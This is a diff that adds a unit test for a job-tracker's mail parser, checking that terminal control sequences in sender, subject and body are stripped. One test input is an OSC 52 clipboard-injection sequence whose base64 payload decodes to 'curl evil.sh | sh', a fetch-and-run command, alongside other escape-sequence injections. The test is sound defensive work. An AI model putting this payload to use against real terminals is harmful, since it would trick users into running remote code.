@@ -75,6 +75,16 @@ def test_snippets_drop_links_numbers_and_addresses() -> None:
     assert len(snippet("word " * 100)) <= 160
 
 
+def test_terminal_control_sequences_in_a_mail_are_dropped() -> None:
+    """`track review` prints sender, subject and snippet: an ESC there would drive the user's terminal."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+    head = "From: =?utf-8?b?QWNtZRtbMko=?= <jobs@acme.com>\r\nSubject: =?utf-8?q?Interview=1B]0;pwned=07?="
+    msg = parse_mail((head + "\r\n").encode(), f"Hi{osc52}, can we talk\x9b31m Monday?".encode(), fallback_id="<x@t>")
+    for text in (msg.sender_name, msg.subject, msg.text, msg.snippet):
+        assert not any(ord(c) < 32 and c not in "\n\t" or 0x7F <= ord(c) <= 0x9F for c in text), repr(text)
+    assert msg.subject.startswith("Interview") and msg.sender_name.startswith("Acme") and "Monday" in msg.text
+
+
 def _index() -> JobIndex:
     return JobIndex([
         JobRef(1, "Backend Engineer", "Acme Corp", "applied"),
